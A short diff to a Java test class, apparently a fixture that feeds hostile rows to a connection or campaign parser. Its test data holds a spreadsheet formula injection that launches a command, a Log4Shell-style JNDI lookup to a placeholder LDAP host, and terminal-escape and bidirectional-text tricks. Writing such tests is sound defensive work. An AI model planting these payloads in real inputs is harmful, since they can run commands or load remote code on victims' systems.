@@ -139,7 +139,9 @@ final class BadConnections {
             "=cmd|'/c calc'!A0 ${jndi:ldap://192.0.2.1/a} <b>x</b> \u001B[2J\u202Etxt\u2028end";
 
     private static void hostile(BadCampaign campaign) throws Exception {
-        agent(campaign, ACTING + "x".repeat(64 << 10));
+        String long64 = rows(ACTING + "x".repeat(64 << 10), "203.0.113.20");
+        String plain = rows(AGENT, "203.0.113.21").substring(HEADER.length());
+        campaign.row(long64 + plain.replace("p20@", "p21@"));
     }
 
     private static void acting(BadCampaign campaign) throws Exception {
